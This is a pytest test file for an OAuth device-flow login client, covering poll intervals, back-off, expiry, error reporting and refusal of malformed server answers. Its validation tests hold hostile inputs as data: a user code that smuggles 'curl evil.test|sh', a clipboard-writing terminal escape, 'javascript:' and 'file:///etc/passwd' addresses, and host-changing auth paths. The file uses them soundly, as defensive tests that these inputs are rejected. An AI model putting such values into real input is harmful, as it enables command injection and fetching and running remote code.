"""The device's half of RFC 8628, in virtual time against a real server."""

from __future__ import annotations

from itertools import pairwise

import pytest

from pikku_auth.client import (
    BadAnswer,
    BadUrl,
    ClientError,
    LoginDenied,
    LoginTimedOut,
    NotLoggedIn,
    Unreachable,
)
from pikku_auth.client.api import MAX_BODY, AuthServer
from pikku_auth.client.device_flow import Codes, Token, request_codes, wait_for_approval
from pikku_auth.client.session_info import until, who_is
from tests.client.servers import (
    DENIED,
    DEVICE_CODE,
    EXPIRED,
    GRANTED,
    PENDING,
    RESET,
    SLOW_DOWN,
    TOKEN,
    USER_CODE,
    DeviceServer,
    Reply,
    error,
    trickling,
    unused_url,
)

CLIENT_ID = "pikku-cli"


class Time:
    """A clock that only sleeping moves, and when each poll came."""

    def __init__(self, server: DeviceServer) -> None:
        self.now = 1000.0
        self.polls: list[float] = []
        server.on_request = lambda seen: (
            self.polls.append(self.now) if seen.path.endswith("/device/token") else None
        )

    def clock(self) -> float:
        return self.now

    def sleep(self, seconds: float) -> None:
        assert seconds >= 0
        self.now += seconds

    def waits(self) -> list[float]:
        """Seconds before each poll."""
        return [round(after - before, 3) for before, after in pairwise([1000.0, *self.polls])]


@pytest.fixture
def time(server: DeviceServer) -> Time:
    return Time(server)


def codes_of(server: DeviceServer, time: Time) -> Codes:
    return request_codes(AuthServer(server.url), CLIENT_ID, clock=time.clock)


def log_in(server: DeviceServer, time: Time) -> Token:
    """Ask for codes and wait for the approval."""
    return wait_for_approval(
        AuthServer(server.url),
        CLIENT_ID,
        codes_of(server, time),
        clock=time.clock,
        sleep=time.sleep,
    )


def test_contract_15_3_the_codes_are_asked_for_in_json(server: DeviceServer, time: Time) -> None:
    codes = codes_of(server, time)
    [seen] = server.to("/auth/device/code")
    assert seen.json == {"client_id": CLIENT_ID}
    assert seen.headers["content-type"] == "application/json"
    assert codes == Codes(
        device_code=DEVICE_CODE,
        user_code=USER_CODE,
        verification_uri=f"{server.url}/device",
        verification_uri_complete=f"{server.url}/device?user_code={USER_CODE}",
        interval=5,
        deadline=2800,
    )


def test_contract_15_3_a_scope_is_sent_when_there_is_one(server: DeviceServer) -> None:
    request_codes(AuthServer(server.url), CLIENT_ID, "sandbox:read sandbox:write")
    assert server.to("/auth/device/code")[0].json["scope"] == "sandbox:read sandbox:write"


@pytest.mark.parametrize("auth_path", ["/auth", "auth", "/auth/"])
def test_the_auth_path_may_be_written_with_any_slashes(
    server: DeviceServer, auth_path: str
) -> None:
    request_codes(AuthServer(f"{server.url}/", auth_path), CLIENT_ID)
    assert len(server.to("/auth/device/code")) == 1


@pytest.mark.parametrize("auth_path", ["@evil.test", "//evil.test", ".evil.test"])
def test_the_auth_path_can_not_change_the_host(server: DeviceServer, auth_path: str) -> None:
    with pytest.raises(BadAnswer, match="404"):
        request_codes(AuthServer(server.url, auth_path), CLIENT_ID)


def test_the_auth_path_may_be_empty() -> None:
    with DeviceServer(auth_path="") as server:
        assert request_codes(AuthServer(server.url, "/"), CLIENT_ID).user_code == USER_CODE


def test_contract_15_3_a_poll_is_sent_in_json(server: DeviceServer, time: Time) -> None:
    token = log_in(server, time)
    assert token == Token(TOKEN, "Bearer", 604800)
    [poll] = server.polls()
    assert poll.json == {
        "grant_type": "urn:ietf:params:oauth:grant-type:device_code",
        "device_code": DEVICE_CODE,
        "client_id": CLIENT_ID,
    }
    assert "authorization" not in poll.headers
    assert "cookie" not in poll.headers


def test_rfc_8628_3_5_the_interval_passes_before_each_poll(
    server: DeviceServer, time: Time
) -> None:
    server.answer_auth("/device/token", PENDING, PENDING, GRANTED)
    log_in(server, time)
    assert time.waits() == [6, 6, 6]  # 5 s and a margin for clocks that run fast


def test_rfc_8628_3_2_without_an_interval_it_is_5_seconds(server: DeviceServer, time: Time) -> None:
    server.answer_auth("/device/code", server.codes(interval=None))
    log_in(server, time)
    assert time.waits() == [6]


@pytest.mark.parametrize("interval", [0, -3, 1])
def test_contract_15_3_the_interval_is_a_second_at_least(
    server: DeviceServer, time: Time, interval: int
) -> None:
    server.answer_auth("/device/code", server.codes(interval=interval))
    log_in(server, time)
    assert time.waits() == [1.2]


def test_rfc_8628_3_5_slow_down_adds_5_seconds_for_good(server: DeviceServer, time: Time) -> None:
    server.answer_auth("/device/token", PENDING, SLOW_DOWN, PENDING, SLOW_DOWN, PENDING, GRANTED)
    log_in(server, time)
    assert time.waits() == [6, 6, 12, 12, 18, 18]


def test_a_clock_that_is_a_third_too_fast_is_slowed_down_once_at_most(
    server: DeviceServer, time: Time
) -> None:
    server.answer_auth("/device/token", PENDING, SLOW_DOWN, PENDING, PENDING, GRANTED)
    log_in(server, time)
    assert all(wait / 1.3 >= 5 for wait in time.waits()[2:])


def test_rfc_8628_3_5_the_interval_doubles_while_the_connection_fails(
    server: DeviceServer, time: Time
) -> None:
    server.answer_auth("/device/token", *[RESET] * 6, GRANTED)
    assert log_in(server, time).access_token == TOKEN
    assert time.waits() == [6, 10, 20, 40, 60, 60, 60]


def test_after_the_connection_is_back_the_interval_is_the_servers(
    server: DeviceServer, time: Time
) -> None:
    server.answer_auth("/device/token", SLOW_DOWN, RESET, RESET, PENDING, GRANTED)
    log_in(server, time)
    assert time.waits() == [6, 12, 20, 40, 12]


def test_an_interval_of_more_than_a_minute_stays(server: DeviceServer, time: Time) -> None:
    server.answer_auth("/device/code", server.codes(interval=100))
    server.answer_auth("/device/token", RESET, GRANTED)
    log_in(server, time)
    assert time.waits() == [120, 120]


@pytest.mark.parametrize(
    "busy",
    [
        Reply(500, raw=b"<h1>Server Error (500)</h1>"),
        Reply(502, raw=b""),
        error("temporarily_unavailable", status=503),
        Reply(504, body={}),
        Reply(429, {"message": "Too many requests. Please try again later."}),
        Reply(200, headers={"Transfer-Encoding": "chunked"}, raw=b"no chunk\r\n"),
    ],
    ids=["500", "502", "503", "504", "429", "broken off"],
)
def test_a_server_that_has_trouble_is_asked_again(
    server: DeviceServer, time: Time, busy: Reply
) -> None:
    server.answer_auth("/device/token", busy, GRANTED)
    assert log_in(server, time).access_token == TOKEN
    assert time.waits() == [6, 10]


@pytest.mark.parametrize("reply", [PENDING, SLOW_DOWN, RESET], ids=["pending", "slow", "away"])
def test_nothing_is_asked_after_the_code_has_expired(
    server: DeviceServer, time: Time, reply: Reply
) -> None:
    server.answer_auth("/device/code", server.codes(expires_in=100))
    server.answer_auth("/device/token", reply)
    with pytest.raises(LoginTimedOut, match="Run login again"):
        log_in(server, time)
    assert time.now == 1100
    assert max(time.polls) <= 1100


def test_the_last_poll_is_not_given_up_for_the_margin(server: DeviceServer, time: Time) -> None:
    server.answer_auth("/device/code", server.codes(expires_in=11))
    server.answer_auth("/device/token", PENDING, GRANTED)
    log_in(server, time)
    assert time.waits() == [6, 5]


def test_a_code_that_is_shorter_than_the_interval_is_not_polled(
    server: DeviceServer, time: Time
) -> None:
    server.answer_auth("/device/code", server.codes(expires_in=-1))
    with pytest.raises(LoginTimedOut):
        log_in(server, time)
    assert server.polls() == []


def test_a_denied_login_ends(server: DeviceServer, time: Time) -> None:
    server.answer_auth("/device/token", PENDING, DENIED)
    with pytest.raises(LoginDenied, match=r"^Login was denied in the browser\.$"):
        log_in(server, time)


def test_an_expired_code_ends(server: DeviceServer, time: Time) -> None:
    server.answer_auth("/device/token", EXPIRED)
    with pytest.raises(LoginTimedOut, match=r"^The code expired\. Run login again\.$"):
        log_in(server, time)


@pytest.mark.parametrize(
    ("reply", "message"),
    [
        (error("invalid_grant", "Client ID mismatch"), "failed (400): Client ID mismatch"),
        (error("invalid_grant"), "failed (400): invalid_grant"),
        (error("server_error", "User not found", 500), "failed (500): User not found"),
        (Reply(415, {"message": "Not allowed", "code": "X"}), "failed (415): Not allowed"),
        (Reply(400, raw=b"<html>"), "failed (400)."),
        (Reply(302, headers={"Location": "/login"}, raw=b""), "failed (302)."),
        (Reply(404, raw=b""), "failed (404). Is --auth-path right?"),
        (Reply(200, raw=b"junk"), "failed (200)."),
        (Reply(200, raw=b"[" * 100_000), "failed (200)."),
        (Reply(200, raw=b'{"access_token": NaN}'), "failed (200)."),
        (Reply(200, body={"access_token": ""}), "failed (200)."),
        (Reply(200, body={"access_token": 7}), "failed (200)."),
        (Reply(200, body=[1]), "failed (200)."),
        (Reply(200, body={"access_token": "two words"}), "of a kind"),
        (Reply(200, body={"access_token": "t\r\nX-Y: z"}), "of a kind"),
        (Reply(200, body={"access_token": "t" * 5000}), "of a kind"),
        (Reply(200, body={"access_token": "t", "token_type": "mac"}), "of a kind"),
        (Reply(200, body={"x": "x" * MAX_BODY}), "too long"),
    ],
)
def test_any_other_answer_ends_with_one_line(
    server: DeviceServer, time: Time, reply: Reply, message: str
) -> None:
    server.answer_auth("/device/token", reply)
    with pytest.raises(BadAnswer) as caught:
        log_in(server, time)
    assert message in str(caught.value)
    assert len(server.polls()) == 1


def test_what_the_server_says_is_shown_without_secrets_and_controls(
    server: DeviceServer, time: Time
) -> None:
    text = f"\x1b[31mBad\x07 {DEVICE_CODE}\n\u202e{'x' * 1000}"
    server.answer_auth("/device/token", error("invalid_grant", text))
    with pytest.raises(BadAnswer) as caught:
        log_in(server, time)
    said = str(caught.value)
    assert "[31mBad …x" in said
    assert said.isprintable()
    assert len(said) < 400


def test_a_redirect_is_not_followed(server: DeviceServer, elsewhere: DeviceServer) -> None:
    server.answer_auth("/device/code", Reply(307, headers={"Location": elsewhere.url}))
    with pytest.raises(BadAnswer, match="307"):
        request_codes(AuthServer(server.url), CLIENT_ID)
    assert elsewhere.seen == []


@pytest.mark.parametrize(
    ("changes", "expected"),
    [
        ({"device_code": ""}, "no codes"),
        ({"user_code": 7}, "no codes"),
        ({"verification_uri": None}, "no codes"),
        ({"expires_in": True}, "no codes"),
        ({"expires_in": "1800"}, "no codes"),
        *(
            ({"user_code": code}, "user code")
            for code in (
                "\x1b]52;c;cHduZWQ=\x07",
                "WDJB-MJHT\ncurl evil.test|sh",
                "WDJB;MJHT",
                "AB\u202eCD",
                "AB\u200bCD",
                "\u3164\u2800",
                " - ",
                "B" * 65,
                "B" * 900_000,
            )
        ),
        *(
            ({name: address}, "address")
            for name in ("verification_uri", "verification_uri_complete")
            for address in (
                "javascript:alert(1)",
                "file:///etc/passwd",
                "-flag",
                "/device",
                "https://example.test/\x1b[31m",
                "https://example.test/\u202e",
                "https://ada@example.test/",
                "https://example.test/" + "x" * 2_000,
            )
        ),
    ],
)
def test_codes_that_are_not_whole_are_refused(
    server: DeviceServer, changes: dict[str, object], expected: str
) -> None:
    server.answer_auth("/device/code", server.codes(**changes))
    with pytest.raises(BadAnswer, match=expected):
        request_codes(AuthServer(server.url), CLIENT_ID)


@pytest.mark.parametrize("code", ["WDJB-MJHT", "abc.def_1 2", "код-123", "B" * 64])
def test_code_that_a_human_can_compare_is_taken(server: DeviceServer, code: str) -> None:
    server.answer_auth("/device/code", server.codes(user_code=code))
    assert request_codes(AuthServer(server.url), CLIENT_ID).user_code == code


@pytest.mark.parametrize("number", [1e308, 10**400, float(10**15)])
def test_a_number_out_of_all_bounds_is_cut(server: DeviceServer, number: float) -> None:
    server.answer_auth("/device/code", server.codes(expires_in=number))
    codes = request_codes(AuthServer(server.url), CLIENT_ID, clock=lambda: 0.0)
    assert codes.deadline == 1e10


def test_a_refused_start_says_why(server: DeviceServer) -> None:
    server.answer_auth("/device/code", error("invalid_client", "Invalid client ID"))
    with pytest.raises(BadAnswer, match=r"^Asking for a code failed \(400\): Invalid client ID$"):
        request_codes(AuthServer(server.url), CLIENT_ID)


def test_a_server_that_is_away_is_said_to_be() -> None:
    url = unused_url()
    with pytest.raises(Unreachable, match=rf"^Can't reach {url}: .* was refused\."):
        request_codes(AuthServer(url), CLIENT_ID)


def test_a_server_without_tls_is_said_to_be(server: DeviceServer) -> None:
    url = server.url.replace("http", "https")
    with pytest.raises(Unreachable, match="certificate"):
        request_codes(AuthServer(url), CLIENT_ID)


def test_an_answer_that_breaks_off_is_said_to(server: DeviceServer) -> None:
    broken = Reply(headers={"Transfer-Encoding": "chunked"}, raw=b"no chunk\r\n")
    server.answer_auth("/device/code", broken)
    with pytest.raises(Unreachable, match="broke off"):
        request_codes(AuthServer(server.url), CLIENT_ID)


def test_a_server_that_never_ends_its_answer_is_given_up() -> None:
    with trickling() as url, pytest.raises(Unreachable, match="no answer in time"):
        request_codes(AuthServer(url, seconds=0.3), CLIENT_ID)


def test_no_secret_is_in_what_can_be_printed(server: DeviceServer, time: Time) -> None:
    codes, token = codes_of(server, time), log_in(server, time)
    answer = AuthServer(server.url).device_token(CLIENT_ID, DEVICE_CODE)
    text = f"{codes!r}{codes}{token!r}{token}{answer!r}{answer}"
    assert DEVICE_CODE not in text
    assert TOKEN not in text


def test_contract_14_a_session_says_who_one_is(server: DeviceServer) -> None:
    who = who_is(AuthServer(server.url), TOKEN)
    [seen] = server.to("/auth/get-session")
    assert seen.headers["authorization"] == f"Bearer {TOKEN}"
    assert who.user == {"id": "7", "email": "ada@example.com", "name": "Ada"}
    assert who.name == "ada@example.com"
    assert who.expires_at == "2100-01-02T03:04:05.000Z"


@pytest.mark.parametrize(
    ("reply", "user", "expires_at"),
    [
        (Reply(body={"session": {"expiresAt": 7}, "user": None}), None, None),
        (Reply(body={"user": {"id": "7"}}), {"id": "7"}, None),
    ],
)
def test_a_session_may_say_little(
    server: DeviceServer, reply: Reply, user: object, expires_at: object
) -> None:
    server.answer_auth("/get-session", reply)
    who = who_is(AuthServer(server.url), TOKEN)
    assert (who.user, who.expires_at) == (user, expires_at)


@pytest.mark.parametrize("reply", [Reply(body=None), Reply(401, body={"message": "No"})])
def test_contract_14_a_token_of_nobody_has_no_session(server: DeviceServer, reply: Reply) -> None:
    server.answer_auth("/get-session", reply)
    with pytest.raises(NotLoggedIn):
        who_is(AuthServer(server.url), TOKEN)


@pytest.mark.parametrize(
    "reply", [Reply(503, body=None), Reply(200, raw=b"junk"), Reply(403, body={"user": {"id": 1}})]
)
def test_trouble_is_not_taken_for_being_logged_out(server: DeviceServer, reply: Reply) -> None:
    server.answer_auth("/get-session", reply)
    with pytest.raises(BadAnswer):
        who_is(AuthServer(server.url), TOKEN)


def test_an_expiry_that_is_not_known_is_not_told() -> None:
    assert until(None) == ""
    assert until("2100-01-02T12:00:00.000Z") == " (expires 2100-01-02 12:00 UTC)"


@pytest.mark.parametrize("url", ["http://example.test", "https://ada@app.example.com"])
def test_a_server_that_is_not_safe_is_refused(url: str) -> None:
    with pytest.raises(ClientError) as caught:
        AuthServer(url)
    assert isinstance(caught.value, BadUrl) or "https" in str(caught.value)
